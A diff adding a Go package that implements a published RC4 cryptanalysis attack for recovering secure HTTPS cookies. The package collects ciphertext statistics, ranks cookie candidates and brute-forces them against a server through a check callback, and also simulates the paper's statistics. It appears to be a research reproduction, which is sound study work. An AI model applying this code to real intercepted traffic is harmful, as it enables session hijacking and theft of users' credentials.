@@ -1,0 +1,281 @@
+// Package cookieattack implements the §6 attack: decrypting a secure HTTPS
+// cookie from many RC4-encrypted copies of a manipulated request. The
+// attacker knows every plaintext byte of the request except the cookie
+// value (§6.1/httpmodel), collects ciphertext digraph statistics at the
+// cookie positions (for the Fluhrer–McGrew likelihoods) and ciphertext
+// differentials against known-plaintext anchor pairs on both sides (for
+// Mantin's ABSAB likelihoods, §4.2), combines them per eq. 25, and
+// generates a cookie candidate list with Algorithm 2 restricted to the
+// RFC 6265 cookie alphabet (§6.2). The candidate list is then brute-forced
+// against the server.
+package cookieattack
+
+import (
+	"errors"
+	"math"
+	"math/rand"
+
+	"rc4break/internal/biases"
+	"rc4break/internal/recovery"
+)
+
+// Config describes the attacked request layout.
+type Config struct {
+	// CookieLen is the unknown cookie length (16 in the paper's setup).
+	CookieLen int
+	// Offset is the 0-based byte offset of the cookie within the record
+	// plaintext.
+	Offset int
+	// Plaintext is the full record plaintext with the cookie bytes at
+	// Offset..Offset+CookieLen-1 treated as unknown (their values in this
+	// slice are ignored by the attack; tests may fill them arbitrarily).
+	Plaintext []byte
+	// CounterBase is the PRGA counter i at the chain's first byte (the
+	// known byte immediately before the cookie). On a persistent
+	// connection with fixed-size records this is constant across records —
+	// the §6.3 alignment requirement.
+	CounterBase int
+	// MaxGap bounds the ABSAB gaps used on each side (the paper uses 128).
+	MaxGap int
+	// Charset restricts candidate cookie bytes; nil means the RFC 6265
+	// set is NOT applied and all 256 values are allowed.
+	Charset []byte
+}
+
+// anchor is one usable ABSAB anchor for one chain pair: a known plaintext
+// pair at a fixed distance from the unknown pair.
+type anchor struct {
+	q   int // 0-based plaintext offset of the anchor pair's first byte
+	gap int
+	w   float64
+	k1  byte
+	k2  byte
+}
+
+// Attack accumulates ciphertext evidence.
+type Attack struct {
+	cfg     Config
+	chain   int         // number of pair-likelihood links = CookieLen + 1
+	fm      [][]uint64  // [chain][65536] ciphertext digraph counts
+	absab   [][]float64 // [chain][65536] accumulated ABSAB weights per candidate pair
+	anchors [][]anchor  // per chain link
+	Records uint64
+}
+
+// New validates the configuration and prepares the evidence accumulators.
+func New(cfg Config) (*Attack, error) {
+	if cfg.CookieLen <= 0 {
+		return nil, errors.New("cookieattack: cookie length must be positive")
+	}
+	if cfg.Offset < 1 || cfg.Offset+cfg.CookieLen >= len(cfg.Plaintext) {
+		return nil, errors.New("cookieattack: cookie must have known plaintext on both sides")
+	}
+	if cfg.MaxGap < 0 {
+		return nil, errors.New("cookieattack: negative max gap")
+	}
+	if cfg.CounterBase < 0 || cfg.CounterBase > 255 {
+		return nil, errors.New("cookieattack: counter base must be 0..255")
+	}
+	a := &Attack{
+		cfg:     cfg,
+		chain:   cfg.CookieLen + 1,
+		fm:      make([][]uint64, cfg.CookieLen+1),
+		absab:   make([][]float64, cfg.CookieLen+1),
+		anchors: make([][]anchor, cfg.CookieLen+1),
+	}
+	known := func(j int) bool {
+		return j >= 0 && j < len(cfg.Plaintext) && (j < cfg.Offset || j >= cfg.Offset+cfg.CookieLen)
+	}
+	for r := 0; r < a.chain; r++ {
+		a.fm[r] = make([]uint64, 65536)
+		a.absab[r] = make([]float64, 65536)
+		p := cfg.Offset - 1 + r // first byte of the unknown-side pair
+		// Forward anchors: known pair g bytes after the unknown pair.
+		for g := 0; g <= cfg.MaxGap; g++ {
+			q := p + 2 + g
+			if q+1 >= len(cfg.Plaintext) {
+				break
+			}
+			if known(q) && known(q+1) {
+				a.anchors[r] = append(a.anchors[r], anchor{
+					q: q, gap: g, w: recovery.ABSABWeight(g),
+					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
+				})
+			}
+		}
+		// Backward anchors: known pair g bytes before the unknown pair.
+		for g := 0; g <= cfg.MaxGap; g++ {
+			q := p - 2 - g
+			if q < 0 {
+				break
+			}
+			if known(q) && known(q+1) {
+				a.anchors[r] = append(a.anchors[r], anchor{
+					q: q, gap: g, w: recovery.ABSABWeight(g),
+					k1: cfg.Plaintext[q], k2: cfg.Plaintext[q+1],
+				})
+			}
+		}
+	}
+	return a, nil
+}
+
+// AnchorsPerPair reports how many ABSAB anchors each chain link uses — the
+// paper's "2·129 ABSAB biases" when known plaintext is ample on both sides.
+func (a *Attack) AnchorsPerPair() []int {
+	out := make([]int, a.chain)
+	for r := range a.anchors {
+		out[r] = len(a.anchors[r])
+	}
+	return out
+}
+
+// ObserveRecord folds one encrypted record body (RC4 ciphertext of the
+// aligned request plaintext) into the statistics.
+func (a *Attack) ObserveRecord(body []byte) error {
+	if len(body) < len(a.cfg.Plaintext) {
+		return errors.New("cookieattack: record shorter than modeled plaintext")
+	}
+	for r := 0; r < a.chain; r++ {
+		p := a.cfg.Offset - 1 + r
+		a.fm[r][int(body[p])*256+int(body[p+1])]++
+		tbl := a.absab[r]
+		for _, an := range a.anchors[r] {
+			d1 := body[p] ^ body[an.q]
+			d2 := body[p+1] ^ body[an.q+1]
+			// Supported candidate pair: µ = Ĉ ⊕ known anchor plaintext.
+			tbl[int(d1^an.k1)*256+int(d2^an.k2)] += an.w
+		}
+	}
+	a.Records++
+	return nil
+}
+
+// Likelihoods combines the FM and ABSAB evidence into one pair-likelihood
+// chain (eq. 25). Chain link r covers plaintext positions
+// (Offset-1+r, Offset+r).
+func (a *Attack) Likelihoods() ([]*recovery.PairLikelihoods, error) {
+	out := make([]*recovery.PairLikelihoods, a.chain)
+	for r := 0; r < a.chain; r++ {
+		i := (a.cfg.CounterBase + r) % 256
+		fm, err := recovery.FMPairLikelihoods(a.fm[r], i)
+		if err != nil {
+			return nil, err
+		}
+		lk := new(recovery.PairLikelihoods)
+		lk.Add(fm)
+		for c, w := range a.absab[r] {
+			lk[c] += w
+		}
+		out[r] = lk
+	}
+	return out, nil
+}
+
+// Candidates generates the n most likely cookies (full values, without the
+// surrounding known bytes) via Algorithm 2.
+func (a *Attack) Candidates(n int) ([]recovery.Candidate, error) {
+	lks, err := a.Likelihoods()
+	if err != nil {
+		return nil, err
+	}
+	m1 := a.cfg.Plaintext[a.cfg.Offset-1]
+	mL := a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]
+	cands, err := recovery.DoubleByteCandidates(lks, m1, mL, n, a.cfg.Charset)
+	if err != nil {
+		return nil, err
+	}
+	// Strip the anchors: the caller wants cookie values.
+	for i := range cands {
+		cands[i].Plaintext = cands[i].Plaintext[1 : a.cfg.CookieLen+1]
+	}
+	return cands, nil
+}
+
+// BruteForce walks the candidate list, calling check (e.g. an HTTPS request
+// presenting the cookie) until it accepts; it returns the cookie and its
+// 1-based list position. This is the §6.2 negligible-time brute-force.
+func (a *Attack) BruteForce(n int, check func([]byte) bool) ([]byte, int, error) {
+	cands, err := a.Candidates(n)
+	if err != nil {
+		return nil, 0, err
+	}
+	for i, c := range cands {
+		if check(c.Plaintext) {
+			return c.Plaintext, i + 1, nil
+		}
+	}
+	return nil, 0, errors.New("cookieattack: cookie not in candidate list")
+}
+
+// SimulateStatistics fills the evidence tables by drawing sufficient
+// statistics for nRecords model-mode records directly, instead of
+// constructing each record (the paper's Figures 7 and 10 are simulations in
+// the same sense — at 2^39 ciphertexts per point no testbed generates them
+// one by one):
+//
+//   - FM digraph histograms: per-cell normal approximation of the
+//     multinomial over the Fluhrer–McGrew distribution at the link's PRGA
+//     counter, XOR-shifted by the true plaintext pair.
+//   - ABSAB evidence: per anchor, the number of keystream-digraph
+//     coincidences is Binomial(nRecords, β(g)); coincidences support the
+//     true pair, non-coincidences spread uniformly. Both are sampled with
+//     normal approximations, aggregated per cell across anchors.
+//
+// truth is the true cookie value.
+func (a *Attack) SimulateStatistics(rng *rand.Rand, truth []byte, nRecords uint64) error {
+	if len(truth) != a.cfg.CookieLen {
+		return errors.New("cookieattack: truth length mismatch")
+	}
+	n := float64(nRecords)
+	chainBytes := make([]byte, a.chain+1)
+	chainBytes[0] = a.cfg.Plaintext[a.cfg.Offset-1]
+	copy(chainBytes[1:], truth)
+	chainBytes[a.chain] = a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]
+
+	for r := 0; r < a.chain; r++ {
+		i := (a.cfg.CounterBase + r) % 256
+		pt1, pt2 := chainBytes[r], chainBytes[r+1]
+		// FM histogram: cell (c1,c2) sees keystream digraph (c1⊕pt1, c2⊕pt2).
+		dist := biases.FMDistribution(i)
+		hist := a.fm[r]
+		for c1 := 0; c1 < 256; c1++ {
+			z1 := c1 ^ int(pt1)
+			for c2 := 0; c2 < 256; c2++ {
+				mean := n * dist[z1*256+(c2^int(pt2))]
+				v := mean + math.Sqrt(mean)*rng.NormFloat64()
+				if v < 0 {
+					v = 0
+				}
+				hist[c1*256+c2] += uint64(v + 0.5)
+			}
+		}
+		// ABSAB: aggregate hit weight on the true cell, aggregate miss
+		// noise across all cells.
+		var hitW, missMean, missVar float64
+		for _, an := range a.anchors[r] {
+			beta := biases.ABSABCopyProb(an.gap)
+			mean := n * beta
+			hits := mean + math.Sqrt(mean*(1-beta))*rng.NormFloat64()
+			if hits < 0 {
+				hits = 0
+			}
+			hitW += hits * an.w
+			misses := n - hits
+			missMean += an.w * misses / 65536
+			missVar += an.w * an.w * misses / 65536
+		}
+		tbl := a.absab[r]
+		sd := math.Sqrt(missVar)
+		for c := range tbl {
+			v := missMean + sd*rng.NormFloat64()
+			if v < 0 {
+				v = 0
+			}
+			tbl[c] += v
+		}
+		tbl[int(pt1)*256+int(pt2)] += hitW
+	}
+	a.Records += nRecords
+	return nil
+}
